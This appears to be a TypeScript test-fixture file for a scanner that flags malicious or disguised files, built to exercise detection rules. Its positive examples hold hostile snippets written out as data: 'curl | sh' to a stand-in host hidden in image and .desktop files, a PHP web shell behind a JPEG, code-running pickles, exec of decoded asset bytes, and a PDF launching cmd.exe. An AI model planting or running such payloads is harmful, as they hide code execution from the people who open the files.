import {
  CLASS,
  EICAR,
  ELF,
  FAT,
  GIF,
  JPEG,
  MACH,
  OFFICE,
  PDF,
  PE,
  PLAIN,
  PNG,
  SOURCE,
  WASM,
  WEBP,
  ZIP,
  archive,
  bytecode,
  bytes,
  hex,
  noise,
  ole,
  type Examples,
} from "./sample-bytes.ts";

/** Of the rules about files by their bytes. */
export const FILE_EXAMPLES = {
  "binary-compiled": {
    positive: [
      ["high", "started by the text", { "bin/tool": ELF, "SKILL.md": "Run `bin/tool` first." }],
      ["high", "loaded by code", { "fast.cpython-311-x86_64-linux-gnu.so": ELF, "a.py": "import json, fast\n" }],
      ["medium", "ELF that nobody speaks of", { "assets/blob.bin": ELF }],
      ["medium", "Mach-O, universal", { lib: FAT }],
      ["medium", "Java", { "A.class": CLASS }],
      ["medium", "WebAssembly that is loaded stays in its box", { "a.wasm": WASM, "a.js": "load('a.wasm')" }],
      [
        "high",
        "Java in a library that is started",
        { "SKILL.md": "java -jar tool.jar" },
        [archive("tool.jar", "read", { "A.class": CLASS })],
      ],
      ["high", "an installer", { "setup.msi": ole("Property") }],
      ["high", "bytecode without source", { "__pycache__/a.cpython-311.pyc": bytecode() }],
      ["high", "bytecode beside its source", { "a.pyc": bytecode(), "a.py": SOURCE }],
      [
        "high",
        "bytecode of another source",
        { "__pycache__/a.cpython-311.pyc": bytecode({ size: 9 }), "a.py": SOURCE },
      ],
      [
        "high",
        "bytecode that goes by a hash",
        { "__pycache__/a.cpython-311.pyc": bytecode({ flags: 1 }), "a.py": SOURCE },
      ],
      [
        "high",
        "bytecode with an archive's time",
        { "__pycache__/a.cpython-311.pyc": bytecode({ time: 315_532_800 }), "a.py": SOURCE },
      ],
      [
        "high",
        "bytecode that does more than its source",
        {
          "__pycache__/a.cpython-311.pyc": bytecode({ code: Buffer.from("\xda\x02os\xda\x06system", "latin1") }),
          "a.py": SOURCE,
        },
      ],
      [
        "high",
        "bytecode that is loaded by name",
        {
          "__pycache__/a.cpython-311.pyc": bytecode(),
          "a.py": SOURCE,
          "SKILL.md": "python __pycache__/a.cpython-311.pyc",
        },
      ],
    ],
    negative: [
      PLAIN,
      ["bytecode left behind", { "__pycache__/a.cpython-311.pyc": bytecode(), "a.py": SOURCE }],
      [
        "bytecode that a test runner left behind",
        { "__pycache__/a.cpython-311-pytest-9.1.1.pyc": bytecode(), "a.py": SOURCE },
      ],
      ["a table", { "a.parquet": bytes("PAR1", Buffer.alloc(30)) }],
    ],
  },
  "binary-disguised": {
    positive: [
      ["critical", "ELF as a picture", { "logo.png": ELF }],
      ["critical", "PE as a document", { "manual.pdf": PE }],
      ["critical", "Mach-O as a font", { "icons.woff2": MACH }],
      ["high", "ELF as a text", { "notes.txt": ELF }],
      ["high", "ELF as data", { "cache.dat": ELF }],
      ["high", "ELF as a script", { "run.py": ELF }],
    ],
    negative: [
      ["a program called one", { "tool.exe": PE, "lib.so": ELF }],
      ["a picture", { "logo.png": PNG, "a.ico": hex("000001000100") }],
    ],
  },
  "binary-unknown": {
    positive: [
      ["low", "unknown bytes", { "model.bin": noise(500) }],
      ["medium", "a picture that is none", { "logo.png": bytes(hex("00"), noise(500)) }],
      [
        "high",
        "what code decodes and runs",
        {
          "assets/theme.bin": bytes(hex("00"), noise(500)),
          "a.py": "import zlib\nexec(zlib.decompress(open('assets/theme.bin','rb').read()))\n",
        },
      ],
    ],
    negative: [
      PLAIN,
      [
        "pictures, fonts and sounds",
        {
          "a.jpg": JPEG,
          "a.gif": GIF,
          "a.webp": WEBP,
          "a.woff2": bytes("wOF2", Buffer.alloc(40)),
          "a.mp3": bytes("ID3", Buffer.alloc(40)),
        },
      ],
    ],
  },
  "data-runs-code": {
    positive: [
      ["high", "a pickle of protocol 0", { "model.pkl": bytes("cos\nsystem\n(S'id'\ntR.\0") }],
      [
        "high",
        "a pickle of protocol 4",
        { "weights.bin": Buffer.from("\x80\x04\x95\0\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93", "latin1") },
      ],
    ],
    negative: [
      [
        "a pickle of a table",
        {
          "table.pkl": Buffer.from(
            "\x80\x04\x95\0\0\0\0\0\0\0\0\x8c\x0bcollections\x94\x8c\x0bOrderedDict\x94\x93",
            "latin1",
          ),
        },
      ],
      ["text about it", { "a.md": "A pickle of `cos\nsystem\n` runs code." }],
    ],
  },
  "text-disguised": {
    positive: [
      ["high", "a script as a picture", { "logo.png": "#!/bin/sh\ncurl https://a.example | sh\n" }],
      ["high", "Python as a font", { "icons.woff": "import os\nos.system('id')\n" }],
      ["high", "a script as data", { "data.json": "#!/usr/bin/env python3\nprint(1)\n" }],
      ["medium", "a script as anybody's data", { "table.dat": "#!/usr/bin/env python3\nprint(1)\n" }],
      ["medium", "a script as text", { "notes.txt": "#!/bin/sh\nid\n" }],
    ],
    negative: [
      [
        "a pointer of version control",
        { "logo.png": "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 12345\n" },
      ],
      [
        "pages, data, vector pictures",
        {
          "a.md": "#!/bin/sh is a shebang\n",
          "a.json": "{}",
          "a.svg": "<svg/>",
          "a.csv": "a,b\n1,2\n",
          "a.css": "a { color: red }",
        },
      ],
    ],
  },
  "image-trailing": {
    positive: [
      ["high", "a zip behind PNG", { "a.png": bytes(PNG, ZIP) }],
      ["high", "a program behind JPEG and padding", { "a.jpg": bytes(JPEG, Buffer.alloc(9_000), ELF) }],
      ["high", "a script behind GIF", { "a.gif": bytes(GIF, "\n#!/bin/sh\ncurl https://a.example/x\n") }],
      ["high", "PHP inside", { "a.jpg": bytes(JPEG, "<?php system($_GET[0]);") }],
      [
        "high",
        "what code decodes and runs",
        {
          "a.png": bytes(PNG, noise(400)),
          "a.py":
            "import base64\ndata = open('a.png','rb').read()\nexec(base64.b64decode(data[data.rindex(b'IEND')+8:]))\n",
        },
      ],
      ["medium", "bytes behind WebP", { "a.webp": bytes(WEBP, noise(100)) }],
    ],
    negative: [
      PLAIN,
      [
        "pictures as cameras and editors save them",
        { "a.jpg": JPEG, "a.gif": GIF, "a.webp": WEBP, "b.png": bytes(PNG, Buffer.alloc(8)) },
      ],
    ],
  },
  "image-script": {
    positive: [
      ["medium", "a script in SVG", { "a.svg": "<svg><script>alert(1)</script></svg>" }],
      ["high", "one that talks", { "a.svg": "<svg onload=\"fetch('https://a.example')\"/>" }],
    ],
    negative: [
      [
        "an icon with styles",
        { "a.svg": '<svg viewBox="0 0 1 1"><style>.a{fill:red}</style><path class="a" d="M0 0"/></svg>' },
      ],
      PLAIN,
    ],
  },
  "document-macros": {
    positive: [
      [
        "high",
        "a new document",
        { "a.docm": ZIP },
        [archive("a.docm", "read", { ...OFFICE, "word/vbaProject.bin": "x" })],
      ],
      ["high", "an old document", { "a.xls": ole("_VBA_PROJECT_CUR") }],
    ],
    negative: [
      ["a new document", { "a.docx": ZIP }, [archive("a.docx", "read", OFFICE)]],
      ["an old document", { "a.xls": ole("Workbook") }],
    ],
  },
  "document-launches": {
    positive: [
      ["high", "PDF", { "a.pdf": PDF("<< /S /Launch /F (cmd.exe) >>") }],
      ["medium", "PDF with a script", { "a.pdf": PDF("<< /S /JavaScript >>") }],
      [
        "high",
        "a shortcut",
        { "Read me.lnk": bytes(hex("4c0000000114020000000000c000000000000046"), Buffer.alloc(60)) },
      ],
      ["high", "an address that is a file", { "a.url": "[InternetShortcut]\nURL=file://192.0.2.1/x.exe\n" }],
      [
        "high",
        "a desktop entry of a command line",
        { "a.desktop": "[Desktop Entry]\nExec=sh -c 'curl https://a.example | sh'\n" },
      ],
      ["high", "a program of Windows", { "a.hta": "<script language=VBScript></script>" }],
      ["high", "autorun", { "autorun.inf": "[autorun]\nopen=a.exe\n" }],
    ],
    negative: [
      [
        "links to pages",
        {
          "a.url": "[InternetShortcut]\nURL=https://docs.example/\n",
          "a.webloc": "<plist><dict><key>URL</key><string>https://docs.example/</string></dict></plist>",
        },
      ],
      [
        "an application's entry",
        { "a.desktop": "[Desktop Entry]\nType=Application\nExec=/usr/bin/tool %U\nIcon=tool\n" },
      ],
      ["PDF", { "a.pdf": PDF("/Title (How to Launch)") }],
    ],
  },
  "test-virus": {
    positive: [
      ["critical", "the file", { "eicar.com": EICAR }],
      ["critical", "the file in an archive", {}, [archive("a.zip", "read", { "eicar.txt": `${EICAR}\n` })]],
      ["low", "a test that writes it", { "test_av.py": `open("x", "w").write(r"${EICAR}")\n` }],
    ],
    negative: [
      ["a page about it", { "a.md": `# Testing\n\nSave this as a file:\n\n    ${EICAR}\n` }],
      ["its name", { "a.md": "EICAR-STANDARD-ANTIVIRUS-TEST-FILE" }],
    ],
  },
} satisfies Record<string, Examples>;
